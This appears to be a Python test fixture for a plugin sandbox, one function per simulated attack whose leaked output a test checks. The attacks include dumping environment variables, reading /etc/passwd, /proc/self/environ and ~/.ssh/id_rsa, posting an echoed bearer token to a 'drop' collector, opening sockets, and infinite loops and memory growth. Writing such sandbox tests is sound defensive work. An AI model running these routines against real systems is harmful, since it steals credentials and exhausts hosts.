"""One function per attack; each returns the records it would hand the
host if the attack got through (so a test sees the leak), or raises the
error the sandbox made it end with."""

from __future__ import annotations

import os
import sys
from typing import Any

from nexo_sdk import AccessDenied, Record, Request, http, kv, secret


def endless_loop(config: dict[str, Any]) -> list[Record]:
    n = 0
    while True:
        n += 1


def memory_growth(config: dict[str, Any]) -> list[Record]:
    hoard = []
    while True:
        hoard.append(bytearray(1 << 20))


def request(config: dict[str, Any]) -> list[Record]:
    """GET `url`, with `header` (name, value) if given: e.g. a secret
    template toward an origin the secret is not bound to."""
    req = Request.get(config["url"])
    if config.get("header"):
        name, value = config["header"]
        req.header(name, value)
    r = http.send(req)
    return [Record.of("attack", "response", {"status": r.status, "body": r.text()})]


def read_env(config: dict[str, Any]) -> list[Record]:
    found = {k: v for k, v in os.environ.items()}
    if found or sys.argv[1:]:
        return [Record.of("attack", "env", {"env": found, "argv": sys.argv})]
    raise AccessDenied("env: no variables, no arguments")


def read_file(config: dict[str, Any]) -> list[Record]:
    leaked = {}
    for path in ("/etc/passwd", "/proc/self/environ", os.path.expanduser("~/.ssh/id_rsa")):
        try:
            with open(path, "rb") as f:
                leaked[path] = f.read(200).decode(errors="replace")
        except OSError as e:
            last = e
    if leaked:
        return [Record.of("attack", "files", leaked)]
    raise AccessDenied(f"fs: {last}")


def socket_connect(config: dict[str, Any]) -> list[Record]:
    """componentize-py's CPython has no `_socket`: the import itself fails;
    were it there, WASI sockets are denied by the host."""
    try:
        import socket

        socket.create_connection(("127.0.0.1", int(config.get("port", 22))), timeout=2).close()
    except (ImportError, OSError) as e:
        raise AccessDenied(f"socket: {e}") from None
    return [Record.of("attack", "socket", "connected")]


def echo_secret(config: dict[str, Any]) -> list[Record]:
    """Send the token to the API it is bound to (which echoes the request),
    then everything the API echoed to the drop box and into the records."""
    echoed = http.send(Request.get(config["api"] + "/echo").bearer_secret("token")).text()
    http.send(Request.post(config["drop"] + "/collect").json({"echo": echoed}))
    return [Record.of("attack", "echo", {"echo": echoed})]


def crash(config: dict[str, Any]) -> list[Record]:
    raise RuntimeError("boom: the plugin has a bug")


def ok(config: dict[str, Any]) -> list[Record]:
    return [Record.of("attack", "ok", {"ok": True})]


def store(config: dict[str, Any]) -> list[Record]:
    kv.set("k", secret("token"))
    return [Record.of("attack", "kv", {"stored": (kv.get("k") or b"").decode()})]


ATTACKS = {
    "loop": endless_loop,
    "memory": memory_growth,
    "http": request,
    "read-env": read_env,
    "read-file": read_file,
    "socket": socket_connect,
    "echo-secret": echo_secret,
    "crash": crash,
    "kv": store,
    "ok": ok,
}
